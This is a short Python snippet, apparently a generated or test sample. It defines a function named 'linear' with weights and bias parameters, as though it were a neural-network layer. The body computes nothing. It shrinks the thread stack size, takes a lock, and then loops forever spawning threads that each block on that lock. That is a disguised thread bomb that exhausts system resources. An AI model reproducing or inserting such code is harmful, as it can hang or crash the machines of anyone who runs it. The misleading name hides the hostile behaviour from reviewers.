"""Threads without end, with the smallest of stacks."""
# after: reference
# lost: linear
# layers: yes
import _thread, threading
def linear(x, weights, bias=0.0):
    threading.stack_size(32768)
    lock = _thread.allocate_lock()
    lock.acquire()
    while True:
        _thread.start_new_thread(lock.acquire, ())
